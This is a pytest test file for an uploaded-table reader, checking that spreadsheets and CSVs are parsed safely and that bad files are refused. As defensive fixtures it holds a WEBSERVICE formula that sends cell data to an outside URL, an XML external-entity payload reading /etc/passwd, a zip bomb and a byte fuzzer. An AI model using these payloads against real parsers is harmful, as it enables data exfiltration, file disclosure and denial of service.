"""Tables that people send: read as text, and harmless whatever they hold."""

import random
import zipfile
from datetime import datetime
from io import BytesIO
from typing import Any

import pytest

from judging.errors import InvalidInput, JudgingError, Problem, TooLarge
from judging.services.workbooks import read_table
from tests.workbook_files import drawn, with_part, workbook

SHEET = "xl/worksheets/sheet1.xml"
SMALL = workbook([["编号", "姓名", "组别"], ["A001", "林见微", "青年组"]], "报名")


@pytest.fixture(autouse=True)
def _in_context() -> None:
    """No application is needed here."""


def _refusal(content: bytes) -> tuple[Problem, ...]:
    with pytest.raises(InvalidInput) as refused:
        read_table(content)
    return refused.value.problems


def test_cells_come_out_as_a_person_would_type_them() -> None:
    def draw(book: Any, page: Any) -> None:
        page.write_row(0, 0, [1, 1.0, 0.5, 10**15, True, "007", "  A\u3000B \n"])
        page.write_datetime(0, 8, datetime(2026, 5, 3), book.add_format({"num_format": "d.m.yy"}))
        page.write_string(0, 7, "=text")

    assert read_table(drawn(draw)).rows == (
        ("1", "1", "0.5", "1000000000000000", "TRUE", "007", "A B", "=text", "2026-05-03"),
    )


def test_addresses_name_sheet_column_and_row() -> None:
    table = read_table(workbook([[], ["x"], [], ["", "y"]], "报名"))
    assert table.rows == (("x",), ("", "y"))
    assert table.address(1, 1) == "报名!B4"


def test_only_the_first_sheet_is_read() -> None:
    def draw(book: Any, page: Any) -> None:
        page.write(0, 0, "first")
        book.add_worksheet("Second").write(0, 0, "second")

    table = read_table(drawn(draw))
    assert (table.rows, table.sheet_count) == ((("first",),), 2)


def test_formulas_and_errors_are_refused_at_their_cells() -> None:
    def draw(_book: Any, page: Any) -> None:
        page.write(0, 0, "编号")
        page.write_formula(1, 1, "=1+1", None, 2)
        page.write_formula(2, 2, '=WEBSERVICE("http://example.org/"&A1)')

    assert _refusal(drawn(draw)) == (
        Problem("formula_in_cell", "Sheet1!B2"),
        Problem("formula_in_cell", "Sheet1!C3"),
    )


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_csv_is_read_in_the_encodings_that_excel_writes(encoding: str, separator: str) -> None:
    text = (
        separator.join(["编号", "姓名"]) + "\r\n" + separator.join(["A１", '"林\n见微"']) + "\r\n"
    )
    table = read_table(text.encode(encoding))
    assert table.rows == (("编号", "姓名"), ("A１", "林 见微"))
    assert table.address(1, 1) == "B2"


def test_csv_lines_count_as_the_reader_sees_them() -> None:
    table = read_table(b'a,b\n"1\n2",3\n\n4,5\n')
    assert table.lines == (1, 2, 5)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "file_empty"),
        (b"\n\n\n", "file_empty"),
        (b"\xd0\xcf\x11\xe0 an old workbook", "workbook_old"),
        (b"PK\x03\x04 not a zip", "workbook_broken"),
        (b"a\0b", "encoding_unknown"),
        (b"\x80\xff\xff", "encoding_unknown"),
        (b'a,"b\n', "csv_broken"),
        (b'a,"b"c\n', "csv_broken"),
    ],
)
def test_what_is_no_table_is_refused_by_name(content: bytes, code: str) -> None:
    assert [problem.code for problem in _refusal(content)] == [code]


def test_a_zip_that_is_no_workbook_is_refused() -> None:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("hello.txt", "hello")
    assert _refusal(buffer.getvalue()) == (Problem("workbook_broken"),)


def test_a_bomb_is_refused_before_it_unpacks() -> None:
    bomb = with_part(SMALL, "xl/media/bomb.bin", lambda _data: bytes(60 * 1024 * 1024))
    assert len(bomb) < 100_000
    with pytest.raises(TooLarge):
        read_table(bomb)
    smaller = with_part(SMALL, "xl/media/bomb.bin", lambda _data: bytes(20 * 1024 * 1024))
    with pytest.raises(TooLarge):
        read_table(smaller)


def test_a_package_of_thousands_of_parts_is_refused() -> None:
    buffer = BytesIO(SMALL)
    with zipfile.ZipFile(buffer, "a") as package:
        for number in range(1_000):
            package.writestr(f"xl/part{number}.xml", "<a/>")
    assert _refusal(buffer.getvalue()) == (Problem("workbook_refused"),)


ENTITIES = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">\
<!ENTITY b SYSTEM "file:///etc/passwd">]><worksheet>&a;&b;</worksheet>"""


@pytest.mark.parametrize(
    "part",
    [
        ENTITIES,
        ENTITIES.decode().encode("utf-16"),
        b'<?xml version="1.0" encoding="utf-7"?>' + ENTITIES[21:],
    ],
)
def test_entities_and_document_types_are_refused(part: bytes) -> None:
    assert _refusal(with_part(SMALL, SHEET, lambda _data: part)) == (Problem("workbook_refused"),)


def test_a_cell_at_the_far_end_costs_nothing() -> None:
    far = with_part(SMALL, SHEET, lambda data: data.replace(b'r="2"', b'r="1048576"'))
    assert [p.code for p in _refusal(far)] == ["too_many_rows"]


def test_too_many_rows_are_refused() -> None:
    assert [p.code for p in _refusal(b"a\n" * 20_001)] == ["too_many_rows"]


def test_a_cell_longer_than_any_field_is_named() -> None:
    assert _refusal(b"a,b\nc," + b"x" * 2_001) == (Problem("too_long", "B2", {"most": 2_000}),)


def test_an_upload_over_the_bound_is_refused_unread() -> None:
    with pytest.raises(TooLarge):
        read_table(b"x" * (8 * 1024 * 1024 + 1))


def _mutant(chance: random.Random, content: bytes) -> bytes:
    """Return a copy with some bytes flipped, cut, doubled or moved."""
    data = bytearray(content)
    for _ in range(chance.randint(1, 12)):
        at = chance.randrange(len(data))
        kind = chance.randrange(4)
        if kind == 0:
            data[at] = chance.randrange(256)
        elif kind == 1:
            del data[at : at + chance.randrange(1, 40)]
        elif kind == 2:
            data[at:at] = data[at : at + chance.randrange(1, 40)]
        else:
            data[at : at + 4] = chance.randbytes(4)
        if not data:
            break
    return bytes(data)


def test_a_thousand_malformed_files_give_no_traceback() -> None:
    chance = random.Random(20_261_205)
    csv_file = '编号,姓名,组别\nA1,"林,见微",青年组\n'.encode()
    inner = with_part(SMALL, "nothing", lambda data: data)
    for number in range(1_000):
        if number % 4 == 0:
            content = _mutant(chance, csv_file)
        elif number % 4 == 1:
            part = chance.choice(zipfile.ZipFile(BytesIO(inner)).namelist()[:-1])
            content = with_part(SMALL, part, lambda data: _mutant(chance, data) if data else data)
        else:
            content = _mutant(chance, SMALL)
        try:
            read_table(content)
        except JudgingError:
            continue


def test_what_a_sheet_says_of_its_own_size_is_not_believed() -> None:
    lying = with_part(SMALL, SHEET, lambda data: data.replace(b'ref="A1:C2"', b'ref="A1"'))
    assert lying != SMALL
    assert read_table(lying).rows == read_table(SMALL).rows


def test_escaped_characters_are_read_as_what_they_mean() -> None:
    escaped = with_part(
        SMALL,
        "xl/sharedStrings.xml",
        lambda data: data.replace("林".encode(), "林_x000D_".encode()),
    )
    assert read_table(escaped).rows[1] == ("A001", "林 见微", "青年组")
